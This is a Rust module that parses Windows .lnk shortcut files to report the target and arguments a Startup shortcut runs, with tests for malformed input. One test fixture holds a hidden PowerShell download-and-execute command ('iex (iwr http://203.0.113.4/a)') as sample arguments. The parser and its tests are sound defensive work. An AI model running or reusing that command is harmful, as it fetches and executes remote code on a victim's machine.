//! Windows shortcuts (`.lnk`, the Shell Link Binary File Format, [MS-SHLLINK]): what a
//! shortcut in a Startup folder runs. Our own reader, read-only and bounded, of the parts that
//! say so: the header (`ShellLinkHeader`: size 0x4C, the class id
//! `00021401-0000-0000-C000-000000000046`, `LinkFlags`), the `LinkTargetIDList` (skipped by its
//! size), `LinkInfo` (`LocalBasePath` and `CommonPathSuffix`, ANSI or Unicode), the
//! `StringData` (`NAME_STRING`, `RELATIVE_PATH`, `WORKING_DIR`, `COMMAND_LINE_ARGUMENTS`,
//! `ICON_LOCATION`) and, in the `ExtraData`, the `EnvironmentVariableDataBlock`
//! (signature 0xA0000001, the target with `%variables%`).
//!
//! Not read: the shell items of the ID list (a shortcut with neither `LinkInfo`, an
//! environment block nor a relative path has no target here: [`Shortcut::target`] is `None`),
//! the other extra-data blocks. ANSI strings are read as Latin-1 (the code page is not in the
//! file). Every offset and size is checked against the file; strings are capped at
//! [`MAX_CHARS`], extra-data blocks at [`MAX_BLOCKS`].

use thiserror::Error;

/// Most characters of one string kept.
pub(crate) const MAX_CHARS: usize = 4096;
/// Most extra-data blocks looked at.
const MAX_BLOCKS: usize = 64;

const HEADER_SIZE: usize = 0x4C;
const CLSID: [u8; 16] = [
    0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46,
];
const HAS_ID_LIST: u32 = 0x0001;
const HAS_LINK_INFO: u32 = 0x0002;
const HAS_NAME: u32 = 0x0004;
const HAS_RELATIVE_PATH: u32 = 0x0008;
const HAS_WORKING_DIR: u32 = 0x0010;
const HAS_ARGUMENTS: u32 = 0x0020;
const HAS_ICON_LOCATION: u32 = 0x0040;
const IS_UNICODE: u32 = 0x0080;
/// `LinkInfoFlags`: `VolumeIDAndLocalBasePath`.
const VOLUME_ID_AND_LOCAL_BASE_PATH: u32 = 0x0001;
const ENVIRONMENT_BLOCK: u32 = 0xA000_0001;

/// Why a file is not a readable shortcut.
#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub(crate) enum LnkError {
    /// No Shell Link header (size 0x4C and the class id).
    #[error("not a Shell Link (no 0x4C header with the ShellLink class id)")]
    NotShellLink,
    /// A structure runs past the end of the file or its container.
    #[error("corrupt shortcut: {0} runs past its end")]
    Truncated(&'static str),
}

/// What a shortcut runs.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Shortcut {
    /// `LinkInfo`'s local base path with its common path suffix.
    pub local_path: Option<String>,
    /// The environment block's target (`%windir%\system32\…`).
    pub env_target: Option<String>,
    /// `RELATIVE_PATH`.
    pub relative_path: Option<String>,
    /// `WORKING_DIR`.
    pub working_dir: Option<String>,
    /// `COMMAND_LINE_ARGUMENTS`.
    pub arguments: Option<String>,
}

impl Shortcut {
    /// The program it runs: the local path, else the environment block's, else the relative
    /// path.
    pub fn target(&self) -> Option<&str> {
        self.local_path
            .as_deref()
            .or(self.env_target.as_deref())
            .or(self.relative_path.as_deref())
    }
}

fn u16_at(b: &[u8], o: usize) -> Option<u16> {
    Some(u16::from_le_bytes(
        b.get(o..o.checked_add(2)?)?.try_into().ok()?,
    ))
}

fn u32_at(b: &[u8], o: usize) -> Option<u32> {
    Some(u32::from_le_bytes(
        b.get(o..o.checked_add(4)?)?.try_into().ok()?,
    ))
}

fn usize_at(b: &[u8], o: usize, what: &'static str) -> Result<usize, LnkError> {
    u32_at(b, o)
        .and_then(|n| usize::try_from(n).ok())
        .ok_or(LnkError::Truncated(what))
}

/// A NUL-terminated Latin-1 string at `at` in `b` (to the end of `b` without a NUL).
fn ansi_z(b: &[u8], at: usize) -> Option<String> {
    let rest = b.get(at..)?;
    let end = rest.iter().position(|&c| c == 0).unwrap_or(rest.len());
    Some(
        rest.iter()
            .take(end.min(MAX_CHARS))
            .map(|&c| char::from(c))
            .collect(),
    )
}

/// A NUL-terminated UTF-16LE string at `at` in `b`.
fn utf16_z(b: &[u8], at: usize) -> Option<String> {
    let units: Vec<u16> = b
        .get(at..)?
        .chunks_exact(2)
        .map(|p| u16::from_le_bytes([p[0], p[1]]))
        .take_while(|&u| u != 0)
        .take(MAX_CHARS)
        .collect();
    Some(String::from_utf16_lossy(&units))
}

fn non_empty(s: Option<String>) -> Option<String> {
    s.filter(|s| !s.is_empty())
}

/// Read the shortcut in `data`.
pub(crate) fn parse(data: &[u8]) -> Result<Shortcut, LnkError> {
    if u32_at(data, 0) != Some(0x4C) || data.get(4..20) != Some(&CLSID[..]) {
        return Err(LnkError::NotShellLink);
    }
    let flags = u32_at(data, 0x14).ok_or(LnkError::NotShellLink)?;
    let mut at = HEADER_SIZE;
    let mut out = Shortcut::default();
    if flags & HAS_ID_LIST != 0 {
        let size = u16_at(data, at).ok_or(LnkError::Truncated("LinkTargetIDList"))?;
        at = at
            .checked_add(2)
            .and_then(|a| a.checked_add(usize::from(size)))
            .filter(|&a| a <= data.len())
            .ok_or(LnkError::Truncated("LinkTargetIDList"))?;
    }
    if flags & HAS_LINK_INFO != 0 {
        let size = usize_at(data, at, "LinkInfo")?;
        let end = at
            .checked_add(size)
            .filter(|&e| e <= data.len() && size >= 0x1C)
            .ok_or(LnkError::Truncated("LinkInfo"))?;
        let info = data.get(at..end).ok_or(LnkError::Truncated("LinkInfo"))?;
        out.local_path = link_info(info)?;
        at = end;
    }
    let unicode = flags & IS_UNICODE != 0;
    for (flag, field) in [
        (HAS_NAME, None),
        (HAS_RELATIVE_PATH, Some(0)),
        (HAS_WORKING_DIR, Some(1)),
        (HAS_ARGUMENTS, Some(2)),
        (HAS_ICON_LOCATION, None),
    ] {
        if flags & flag == 0 {
            continue;
        }
        let count = usize::from(u16_at(data, at).ok_or(LnkError::Truncated("StringData"))?);
        let len = if unicode {
            count.saturating_mul(2)
        } else {
            count
        };
        let start = at.saturating_add(2);
        let end = start
            .checked_add(len)
            .filter(|&e| e <= data.len())
            .ok_or(LnkError::Truncated("StringData"))?;
        let raw = data
            .get(start..end)
            .ok_or(LnkError::Truncated("StringData"))?;
        let text = if unicode {
            let units: Vec<u16> = raw
                .chunks_exact(2)
                .map(|p| u16::from_le_bytes([p[0], p[1]]))
                .take(MAX_CHARS)
                .collect();
            String::from_utf16_lossy(&units)
        } else {
            raw.iter().take(MAX_CHARS).map(|&c| char::from(c)).collect()
        };
        let text = non_empty(Some(text));
        match field {
            Some(0) => out.relative_path = text,
            Some(1) => out.working_dir = text,
            Some(2) => out.arguments = text,
            _ => {}
        }
        at = end;
    }
    out.env_target = extra_data(data.get(at..).unwrap_or(&[]));
    Ok(out)
}

/// `LocalBasePath` (+ `CommonPathSuffix`) of a `LinkInfo` structure, Unicode when given.
fn link_info(info: &[u8]) -> Result<Option<String>, LnkError> {
    let header = usize_at(info, 4, "LinkInfo")?;
    let flags = u32_at(info, 8).ok_or(LnkError::Truncated("LinkInfo"))?;
    if flags & VOLUME_ID_AND_LOCAL_BASE_PATH == 0 {
        return Ok(None);
    }
    let base = usize_at(info, 0x10, "LinkInfo")?;
    let suffix = usize_at(info, 0x18, "LinkInfo")?;
    let (mut path, tail) = if header >= 0x24 {
        let base_u = usize_at(info, 0x1C, "LinkInfo")?;
        let suffix_u = usize_at(info, 0x20, "LinkInfo")?;
        (
            utf16_z(info, base_u).ok_or(LnkError::Truncated("LocalBasePathUnicode"))?,
            if suffix_u == 0 {
                None
            } else {
                utf16_z(info, suffix_u)
            },
        )
    } else {
        (
            ansi_z(info, base).ok_or(LnkError::Truncated("LocalBasePath"))?,
            ansi_z(info, suffix),
        )
    };
    if let Some(t) = tail.filter(|t| !t.is_empty()) {
        if !path.ends_with('\\') {
            path.push('\\');
        }
        path.push_str(&t);
    }
    Ok(non_empty(Some(path)))
}

/// The target of the `EnvironmentVariableDataBlock` among the extra-data blocks, if any.
fn extra_data(mut rest: &[u8]) -> Option<String> {
    for _ in 0..MAX_BLOCKS {
        let size = usize::try_from(u32_at(rest, 0)?).ok()?;
        if size < 8 {
            return None; // the terminal block (size 0), or garbage
        }
        let block = rest.get(..size)?;
        if u32_at(block, 4) == Some(ENVIRONMENT_BLOCK) && size >= 0x314 {
            let unicode = non_empty(utf16_z(block.get(..0x314)?, 0x10C));
            return unicode.or_else(|| non_empty(ansi_z(block.get(..0x10C)?, 8)));
        }
        rest = rest.get(size..)?;
    }
    None
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    /// A shortcut as MS-SHLLINK lays it out: the header, a `LinkInfo` with a `VolumeID` and an
    /// ANSI `LocalBasePath`, Unicode `StringData`, an optional environment block, the
    /// terminal block.
    pub(crate) fn build(target: &str, args: &str, env: Option<&str>) -> Vec<u8> {
        let mut flags = HAS_LINK_INFO | HAS_RELATIVE_PATH | HAS_WORKING_DIR | IS_UNICODE;
        if !args.is_empty() {
            flags |= HAS_ARGUMENTS;
        }
        let mut b = vec![0u8; HEADER_SIZE];
        b[..4].copy_from_slice(&0x4Cu32.to_le_bytes());
        b[4..20].copy_from_slice(&CLSID);
        b[0x14..0x18].copy_from_slice(&flags.to_le_bytes());
        b[0x3C..0x40].copy_from_slice(&1u32.to_le_bytes());
        // LinkInfo: header 0x1C, VolumeID (0x10 + label "\0"), LocalBasePath, suffix "".
        let volume: Vec<u8> = [0x11u32, 3, 0x1234_5678, 0x10]
            .iter()
            .flat_map(|n| n.to_le_bytes())
            .chain([0])
            .collect();
        let base_at = 0x1C + volume.len();
        let suffix_at = base_at + target.len() + 1;
        let size = suffix_at + 1;
        for n in [size, 0x1C, 1, 0x1C, base_at, 0, suffix_at] {
            b.extend(u32::try_from(n).unwrap().to_le_bytes());
        }
        b.extend(&volume);
        b.extend(target.bytes().chain([0, 0]));
        let dir = target.rsplit_once('\\').map_or("", |(d, _)| d);
        let strings = if args.is_empty() {
            vec![target, dir]
        } else {
            vec![target, dir, args]
        };
        for s in strings {
            let units: Vec<u16> = s.encode_utf16().collect();
            b.extend(u16::try_from(units.len()).unwrap().to_le_bytes());
            b.extend(units.iter().flat_map(|u| u.to_le_bytes()));
        }
        if let Some(env) = env {
            let mut block = vec![0u8; 0x314];
            block[..4].copy_from_slice(&0x314u32.to_le_bytes());
            block[4..8].copy_from_slice(&ENVIRONMENT_BLOCK.to_le_bytes());
            block[8..8 + env.len()].copy_from_slice(env.as_bytes());
            for (i, u) in env.encode_utf16().enumerate() {
                block[0x10C + 2 * i..0x10E + 2 * i].copy_from_slice(&u.to_le_bytes());
            }
            b.extend(block);
        }
        b.extend([0, 0, 0, 0]);
        b
    }

    #[test]
    fn a_shortcut_gives_its_target_and_arguments() {
        let data = build(
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "-nop -w hidden -c \"iex (iwr http://203.0.113.4/a)\"",
            None,
        );
        let s = parse(&data).unwrap();
        assert_eq!(
            s.target(),
            Some(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe")
        );
        assert_eq!(
            s.arguments.as_deref(),
            Some("-nop -w hidden -c \"iex (iwr http://203.0.113.4/a)\"")
        );
        assert_eq!(
            s.working_dir.as_deref(),
            Some(r"C:\Windows\System32\WindowsPowerShell\v1.0")
        );
        let s = parse(&build(
            r"C:\x.exe",
            "",
            Some(r"%windir%\system32\notepad.exe"),
        ))
        .unwrap();
        assert_eq!(
            s.env_target.as_deref(),
            Some(r"%windir%\system32\notepad.exe")
        );
        assert_eq!(s.arguments, None);
    }

    /// A shortcut whose `LinkInfo` has the 0x24-byte header (Unicode `LocalBasePath` and
    /// `CommonPathSuffix`) and whose `StringData` is ANSI (no `IsUnicode`).
    fn unicode_link_info(base: &str, suffix: &str, args: &str) -> Vec<u8> {
        let mut b = vec![0u8; HEADER_SIZE];
        b[..4].copy_from_slice(&0x4Cu32.to_le_bytes());
        b[4..20].copy_from_slice(&CLSID);
        let flags = HAS_LINK_INFO | HAS_ARGUMENTS;
        b[0x14..0x18].copy_from_slice(&flags.to_le_bytes());
        let utf16 = |s: &str| -> Vec<u8> {
            s.encode_utf16()
                .chain([0])
                .flat_map(u16::to_le_bytes)
                .collect()
        };
        let volume: Vec<u8> = [0x11u32, 3, 1, 0x10]
            .iter()
            .flat_map(|n| n.to_le_bytes())
            .chain([0])
            .collect();
        // ANSI fields hold a placeholder; the Unicode ones win.
        let ansi_at = 0x24 + volume.len();
        let base_u = ansi_at + 2;
        let suffix_u = base_u + utf16(base).len();
        let size = suffix_u + utf16(suffix).len();
        for n in [
            size,
            0x24,
            1,
            0x24,
            ansi_at,
            0,
            ansi_at + 1,
            base_u,
            suffix_u,
        ] {
            b.extend(u32::try_from(n).unwrap().to_le_bytes());
        }
        b.extend(&volume);
        b.extend([b'?', 0]);
        b.extend(utf16(base));
        b.extend(utf16(suffix));
        b.extend(u16::try_from(args.len()).unwrap().to_le_bytes());
        b.extend(args.bytes());
        b.extend([0, 0, 0, 0]);
        b
    }

    #[test]
    fn unicode_link_info_and_ansi_strings() {
        let s = parse(&unicode_link_info(
            r"C:\Program Files\Tools",
            r"Ünï\tool.exe",
            "--all",
        ))
        .unwrap();
        assert_eq!(s.target(), Some(r"C:\Program Files\Tools\Ünï\tool.exe"));
        assert_eq!(s.arguments.as_deref(), Some("--all"));
        assert_eq!(s.relative_path, None);
    }

    #[test]
    fn hostile_shortcuts_are_errors_not_panics() {
        assert_eq!(
            parse(b"[InternetShortcut]\r\n"),
            Err(LnkError::NotShellLink)
        );
        let good = build(r"C:\Tools\a.exe", "--x", None);
        // Every truncation is an error or a shorter result, never a panic.
        for n in 0..good.len() {
            let _ = parse(&good[..n]);
        }
        // Huge sizes and offsets.
        for at in [
            HEADER_SIZE,
            HEADER_SIZE + 4,
            HEADER_SIZE + 0x10,
            HEADER_SIZE + 0x1C,
        ] {
            let mut bad = good.clone();
            bad[at..at + 4].copy_from_slice(&u32::MAX.to_le_bytes());
            let _ = parse(&bad);
        }
        let mut bad = good.clone();
        bad[HEADER_SIZE..HEADER_SIZE + 4].copy_from_slice(&0xFFFFu32.to_le_bytes());
        assert_eq!(parse(&bad), Err(LnkError::Truncated("LinkInfo")));
        // Flip every byte once, and cut, in both layouts of LinkInfo.
        for good in [good, unicode_link_info(r"C:\Tools", r"x\a.exe", "-q")] {
            for i in 0..good.len() {
                let mut f = good.clone();
                f[i] ^= 0xFF;
                let _ = parse(&f);
                let _ = parse(&good[..i]);
            }
        }
    }
}
